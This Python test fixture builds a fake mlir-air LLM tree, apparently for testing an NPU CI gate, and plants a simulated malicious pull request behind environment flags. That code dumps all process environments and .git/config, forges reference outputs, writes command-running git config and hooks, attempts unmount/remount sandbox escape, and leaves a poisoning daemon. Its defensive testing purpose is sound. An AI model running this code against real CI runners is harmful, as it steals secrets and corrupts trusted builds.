"""Build a small tree laid out like mlir-air's programming_examples/llms in a temp dir.

The "NPU" block and the "HF" reference are the same tiny numpy function, so a
correct probe run gives identical tensors. Knobs let tests pick the entry point
the model exposes and plant failures.
"""

import os
import textwrap

VERIFY_RECORDS = '''
import dataclasses
@dataclasses.dataclass
class PrefillRecord:
    layer_intermediates: list
    final_hidden_normed: object = None
    logits_at_pred: object = None
    top1_token: int = 0
'''

CACHE = '''
import json, os
class KernelCache:
    def __init__(self, cache_dir=None, verbose=False, profiler=None):
        self.cache_dir = cache_dir
        self.artifacts = {}
    def load_manifest(self):
        p = os.path.join(self.cache_dir, "manifest.json")
        if not os.path.exists(p):
            return False
        with open(p) as f:
            self.artifacts = dict(json.load(f)["entries"])
        return True
    def load_and_run(self, name, backend_kwargs, *inputs, **kw):
        return inputs
    def compile_and_cache(self, name):
        self.artifacts[name] = {"output_binary": name + ".elf"}
    def _save_manifest(self):
        os.makedirs(self.cache_dir, exist_ok=True)
        with open(os.path.join(self.cache_dir, "manifest.json"), "w") as f:
            json.dump({"_toolchain": {"fake": "1"}, "entries": self.artifacts}, f)
'''

HF_RUNNER = '''
import os
import numpy as np
from runners._records import PrefillRecord
import {model}_weights as W
import {model}_block_math as M

class HfRunner:
    def __init__(self, model_name, config, max_seq, lite_mode=False, model=None):
        self.config = config
        self.model_name = model_name
        if os.environ.get("FAKE_HF_CRASH"):
            raise RuntimeError("reference exploded")
    def prefill(self, tokens):
        w = W.load_weights(self.model_name, config=self.config)
        x = w.embed_table[np.asarray(tokens)].astype(np.float32)
        out = M.block(x, w.layers[0])
        # A later NPU call reuses the prefill module's shared buffer.
        import sys
        pm = sys.modules.get("{model}_prefill")
        if pm is not None and getattr(pm, "SHARED", None) is not None:
            pm.SHARED[:] = -7.0
        if os.environ.get("FAKE_REF_ROWS"):
            out = out[: int(os.environ["FAKE_REF_ROWS"])]
        return PrefillRecord(layer_intermediates=[{{"ffn_out": out}}, {{}}])
'''

WEIGHTS = '''
import dataclasses
import numpy as np

@dataclasses.dataclass
class LlamaConfig:
    n_layers: int = 2
    emb_dim: int = {emb}
    n_heads: int = 4
    head_dim: int = {head_dim}
    n_kv_heads: int = 2
    hidden_dim: int = {hidden}
    vocab_size: int = 64
    rope_base: float = 10000.0
    qkv_bias: bool = {qkv_bias}

class Layer:
    pass

class Weights:
    pass

def load_weights(model_name_or_path, dtype=None, config=None):
    rng = np.random.default_rng(0)
    w = Weights()
    w.embed_table = rng.standard_normal((config.vocab_size, config.emb_dim)).astype(np.float32)
    w.layers = []
    for _ in range(config.n_layers):
        l = Layer()
        l.w = (rng.standard_normal((config.emb_dim, config.emb_dim)) / np.sqrt(config.emb_dim)).astype(np.float32)
        w.layers.append(l)
    return w

def generate_rope_lut(config=None, seq_len=2048, dtype=None):
    return np.zeros((seq_len, config.head_dim), dtype=np.float32)
'''

BLOCK_MATH = '''
import numpy as np
def block(x, layer):
    x = np.asarray(x, dtype=np.float32)
    return x + np.tanh(x @ layer.w)
'''

ADAPTER = '''
import numpy as np
import {model}_weights as W
MODEL_CHOICES = {{"base": "fake/{model}-base", "instruct": "fake/{model}-instruct"}}
DEFAULT_MODEL = "instruct"
{seq_decl}
def resolve_model(x):
    return MODEL_CHOICES.get(x, x)
def build_config():
    return W.LlamaConfig()
{tokenize}
{build_runner}
'''

TOKENIZE = '''
def tokenize(prompt):
    return [(ord(c) % 60) + 1 for c in prompt.split()[0]] + [len(p) % 60 for p in prompt.split()[1:]]
'''

BUILD_RUNNER = '''
class _Runner:
    def __init__(self, model_name, config):
        import {model}_block_math as M
        from runners._records import PrefillRecord
        self.w = W.load_weights(model_name, config=config)
        self.M, self.R = M, PrefillRecord
    def prefill(self, tokens):
        x = self.w.embed_table[np.asarray(tokens)]
        return self.R(layer_intermediates=[{{"ffn_out": self.M.block(x, self.w.layers[0])}}])
def build_runner(model_name, config, max_seq, tokenizer, *, npu_attn=True, lite_mode=False):
    return _Runner(model_name, config)
'''

PREFILL_HEAD = '''
import os
import numpy as np
import {model}_block_math as M
SHARED = None
COMPILED = []
def _hostile(loot_path):
    # What a pull request's model code would try on a self-hosted runner (npu-block-gate issue 8):
    # read every environment it can reach, the checkout's .git/config, files it was told about;
    # write into places a later trusted run reads. Everything it got goes to loot_path (JSON).
    import glob, json
    loot = {{"env": dict(os.environ), "proc": {{}}, "files": {{}}, "wrote": [], "linked": [], "errors": [], "chmod": {{}}}}
    for p in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(p, "rb") as f:
                loot["proc"][p] = f.read().decode("latin-1")
        except OSError:
            pass
    d = os.getcwd()
    while d != "/":
        for name in (".git/config",):
            p = os.path.join(d, name)
            try:
                with open(p, encoding="latin-1") as f:
                    loot["files"][p] = f.read()
            except OSError:
                pass
        d = os.path.dirname(d)
    for p in filter(None, os.environ.get("FAKE_HOSTILE_READ", "").split(":")):
        for q in [p] + glob.glob(os.path.join(p, "**"), recursive=True):
            try:
                with open(q, encoding="latin-1") as f:
                    loot["files"][q] = f.read()
            except OSError:
                pass
    for p in filter(None, os.environ.get("FAKE_HOSTILE_WRITE", "").split(":")):
        try:
            with open(os.path.join(p, "poisoned"), "w") as f:
                f.write("forged")
            loot["wrote"].append(p)
        except OSError:
            pass
    forge = os.environ.get("FAKE_HOSTILE_FORGE")  # a reference-cache entry dir to forge
    if forge:
        # A reference of the right shape whose values make the NPU output look right.
        try:
            import numpy as np
            os.makedirs(forge, exist_ok=True)
            np.save(os.path.join(forge, "layer_00.npy"), -np.load(os.environ["FAKE_HOSTILE_FORGE_FROM"]))
            with open(os.path.join(forge, "meta.json"), "w") as f:
                json.dump({{"key": os.path.basename(forge), "kind": "emulated", "stored_layers": [0]}}, f)
            loot["wrote"].append(forge)
        except OSError:
            pass
    if os.environ.get("FAKE_HOSTILE_ESCAPE"):
        loot["escape"] = _escape()
    for spec in filter(None, os.environ.get("FAKE_HOSTILE_LINKS", "").split(":")):
        # Links the Action's own process might later write or act through (name=target).
        name, _, target = spec.partition("=")
        try:
            if os.path.isdir(name) and not os.path.islink(name):
                import shutil
                shutil.rmtree(name)
            elif os.path.lexists(name):
                os.unlink(name)
            os.makedirs(os.path.dirname(name), exist_ok=True)
            os.symlink(target, name)
            loot["linked"].append(name)
        except OSError as exc:
            loot["errors"].append(f"link {{name}}: {{exc}}")
    sock = os.environ.get("FAKE_HOSTILE_SOCKET")
    if sock:
        import socket
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect(sock)
            s.sendall(b"pwned")
            s.close()
            loot["socket"] = "connected"
        except OSError as exc:
            loot["socket"] = f"refused: {{exc}}"
    shm = os.environ.get("FAKE_HOSTILE_SHM")
    if shm:
        try:
            with open(os.path.join("/dev/shm", shm), "w") as f:
                f.write("pwned")
            loot["wrote"].append("/dev/shm/" + shm)
        except OSError as exc:
            loot["errors"].append(f"shm: {{exc}}")
    for p in filter(None, os.environ.get("FAKE_HOSTILE_MKDIR", "").split(":")):
        # Dirs of the probe's own, 0755, with a file inside: what an earlier runner could not remove.
        try:
            os.makedirs(os.path.join(p, "sub"), exist_ok=True)
            with open(os.path.join(p, "sub", "left.txt"), "w") as f:
                f.write("left by the pull request")
            for d in (os.path.join(p, "sub"), p):
                os.chmod(d, 0o755)
            loot["wrote"].append(p)
        except OSError as exc:
            loot["errors"].append(f"mkdir {{p}}: {{exc}}")
    git = os.environ.get("FAKE_HOSTILE_GIT")  # dir=marker: a repository whose config runs a command
    if git:
        where, _, marker = git.partition("=")
        try:
            os.makedirs(os.path.join(where, ".git", "hooks"), exist_ok=True)
            subprocess_free = f"touch {{marker}}"
            with open(os.path.join(where, ".git", "config"), "w") as f:
                f.write("[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
                        f"\\tsshCommand = {{subprocess_free}}\\n\\tfsmonitor = {{subprocess_free}}\\n\\thooksPath = {{where}}/.git/hooks\\n")
            with open(os.path.join(where, ".git", "HEAD"), "w") as f:
                f.write("ref: refs/heads/main\\n")
            for hook in ("pre-push", "post-checkout", "pre-commit", "reference-transaction"):
                h = os.path.join(where, ".git", "hooks", hook)
                with open(h, "w") as f:
                    f.write(f"#!/bin/sh\\n{{subprocess_free}}\\n")
                os.chmod(h, 0o755)
            loot["wrote"].append(os.path.join(where, ".git"))
        except OSError as exc:
            loot["errors"].append(f"git {{where}}: {{exc}}")
    for p in filter(None, os.environ.get("FAKE_HOSTILE_CHMOD", "").split(":")):
        # Lock every other user out of a shared file (the NPU lock).
        try:
            os.chmod(p, 0o600)
            loot["chmod"][p] = "changed"
        except OSError as exc:
            loot["chmod"][p] = f"refused: {{exc.__class__.__name__}}"
    try:
        loot["dev"] = sorted(os.listdir("/dev"))
    except OSError:
        loot["dev"] = None
    daemon = os.environ.get("FAKE_HOSTILE_DAEMON")
    if daemon:
        _daemon(daemon)
    with open(loot_path, "w") as f:
        json.dump(loot, f)


def _escape():
    """What a PR's code on a root runner tried (issue 15): leave the sandbox's mounts, remount the
    root read-write, read PID 1's environment; and what it holds (capabilities, uid map)."""
    import subprocess
    out = {{}}
    def rc(argv):
        try:
            return subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20).returncode
        except OSError as exc:
            return f"{{type(exc).__name__}}"
    out["umount_proc"] = rc(["umount", "/proc"])
    out["umount_tmp"] = rc(["umount", "-l", "/tmp"])
    out["remount_rw"] = rc(["mount", "-o", "remount,rw", "/"])
    try:
        with open("/proc/1/environ", "rb") as f:
            out["proc1_environ"] = f.read().decode("latin-1")
    except OSError as exc:
        out["proc1_environ_error"] = type(exc).__name__
    for key, path in (("status", "/proc/self/status"), ("uid_map", "/proc/self/uid_map")):
        try:
            with open(path) as f:
                out[key] = f.read()
        except OSError:
            out[key] = None
    out["uid"] = os.getuid()
    return out


def _daemon(spec):
    """Leave a process behind (double fork, new session): it rewrites `target` every 100 ms for a
    minute, as a daemon that meant to poison a later trusted run would. `marker` names it in ps."""
    import subprocess, sys
    marker, _, target = spec.partition("=")
    code = ("import os, sys, time\\n"
            "t = sys.argv[2]\\n"
            "for _ in range(600):\\n"
            "    try:\\n"
            "        os.makedirs(os.path.dirname(t), exist_ok=True)\\n"
            "        open(t, 'w').write('poisoned by ' + sys.argv[1])\\n"
            "    except OSError:\\n"
            "        pass\\n"
            "    time.sleep(0.1)\\n")
    launcher = ("import subprocess, sys\\n"
                "subprocess.Popen([sys.executable, '-c', sys.argv[1], sys.argv[2], sys.argv[3]], start_new_session=True, "
                "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)\\n")
    subprocess.run([sys.executable, "-c", launcher, code, marker, target], timeout=30)


def compile_all_kernels(cache, config, seq_len, cpu_attn=True):
    if os.environ.get("FAKE_HOSTILE"):
        _hostile(os.environ["FAKE_HOSTILE"])
    if os.environ.get("FAKE_COMPILE_GRANDCHILD"):
        # A grandchild that leaves the probe's process group (setsid) and keeps its pipes.
        import subprocess, sys, time
        child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True)
        with open(os.environ["FAKE_COMPILE_GRANDCHILD"], "w") as f:
            f.write(str(child.pid))
        time.sleep(60)
    if os.environ.get("FAKE_COMPILE_HANG"):
        open(os.environ["FAKE_COMPILE_HANG"], "w").close()
        import sys, time
        sys.stderr.write("fake: the compile hangs\\n")  # seen by the host (the marker may be in a private copy)
        sys.stderr.flush()
        time.sleep(60)
    if os.environ.get("FAKE_COMPILE_CRASH"):
        raise ValueError("tile 64x64 does not fit\\nsecond line")
    assert seq_len % 64 == 0
    os.makedirs("air_project", exist_ok=True)  # the real tree compiles into the cwd
    COMPILED.append((seq_len, cpu_attn))
    cache.compile_and_cache("rms_gemms_rope")
    if not cpu_attn:
        cache.compile_and_cache("flash_attn")
    cache.compile_and_cache("o_ffn")
    cache._save_manifest()
def _shared_out(y):
    global SHARED
    SHARED = np.asarray(y, dtype=np.float32).copy()
    return SHARED  # a view every later call reuses, like shared_nonstatic=True
'''

RUN_TB = '''
def run_transformer_block{suffix}(x_bf16, layer_weights, rope_lut_bf16, config, cache, layer_idx=0, cpu_attn=True, verbose=False):
    assert x_bf16.shape[0] % 64 == 0
    cache.load_and_run("rms_gemms_rope", {{}}, x_bf16)
    if not cpu_attn:
        cache.load_and_run("flash_attn", {{}}, x_bf16)
    cache.load_and_run("o_ffn", {{}}, x_bf16)
    y = M.block(x_bf16, layer_weights)
    if os.environ.get("FAKE_NPU_NAN_PAD"):
        y[-1, 0] = np.nan
    out = _shared_out(y)
    return out, {{"ffn_out": out}}
'''

RUN_SINGLE = '''
SINGLE_KW = None
def run_single_block(layer_idx=0, hidden=None, weights=None, config=None, cache=None, seq_len=None, cpu_attn=True):
    global SINGLE_KW
    SINGLE_KW = dict(layer_idx=layer_idx, seq_len=seq_len, cpu_attn=cpu_attn)
    return _shared_out(M.block(hidden, weights))
'''

INSTRUCT = """# Prompts for the fake tree.
# One a line; '#' lines are comments.

Introduce me what is GPU
Second prompt here
"""


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(textwrap.dedent(text).lstrip("\n"))


def build(root, model="fake_m", entry="block", suffix="", tokenize=True, emb=64, hidden=128,
          head_dim=16, qkv_bias=False, llama_prefill=False, marker=True, prefill_seq_len=64):
    """Write a fake tree under `root`; return the model dir.

    prefill_seq_len: the adapter's PREFILL_SEQ_LEN (None: not declared).
    entry: "block" (run_transformer_block<suffix> in <model>_prefill), "single"
    (run_single_block + run_transformer_block), "inherit" (imports llama32_1b's),
    "adapter" (no prefill module).
    """
    llms = os.path.join(root, "programming_examples", "llms")
    write(os.path.join(llms, "verify", "prompts", "instruct.txt"), INSTRUCT)
    write(os.path.join(llms, "verify", "prompts", "base.txt"), "# base\nThe capital of France is\n")
    write(os.path.join(llms, "verify", "runners", "_records.py"), VERIFY_RECORDS)
    write(os.path.join(llms, "verify", "runners", "hf_runner.py"), HF_RUNNER.format(model=model))
    write(os.path.join(llms, "shared", "__init__.py"), "")
    write(os.path.join(llms, "shared", "infra", "__init__.py"), "")
    write(os.path.join(llms, "shared", "infra", "cache.py"), CACHE)
    if marker:
        write(os.path.join(root, "AIR_MINI"), "fake\n")
    mdir = os.path.join(llms, model)
    write(os.path.join(mdir, f"{model}_weights.py"),
          WEIGHTS.format(emb=emb, hidden=hidden, head_dim=head_dim, qkv_bias=qkv_bias))
    write(os.path.join(mdir, f"{model}_block_math.py"), BLOCK_MATH)
    write(os.path.join(mdir, "verify_adapter.py"), ADAPTER.format(
        model=model,
        tokenize=TOKENIZE if tokenize else "",
        seq_decl=f"PREFILL_SEQ_LEN = {prefill_seq_len}" if prefill_seq_len else "",
        build_runner=BUILD_RUNNER.format(model=model),
    ))
    prefill = os.path.join(mdir, f"{model}_prefill.py")
    if entry == "block":
        write(prefill, PREFILL_HEAD.format(model=model) + RUN_TB.format(suffix=suffix))
    elif entry == "single":
        write(prefill, PREFILL_HEAD.format(model=model) + RUN_TB.format(suffix="") + RUN_SINGLE)
    elif entry == "inherit":
        lmod = "llama32_1b"
        ldir = os.path.join(llms, lmod)
        write(os.path.join(ldir, f"{lmod}_prefill.py"),
              PREFILL_HEAD.format(model=model) + RUN_TB.format(suffix=""))
        write(prefill, f"""
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "{lmod}"))
from {lmod}_prefill import run_transformer_block, compile_all_kernels
""")
    return mdir
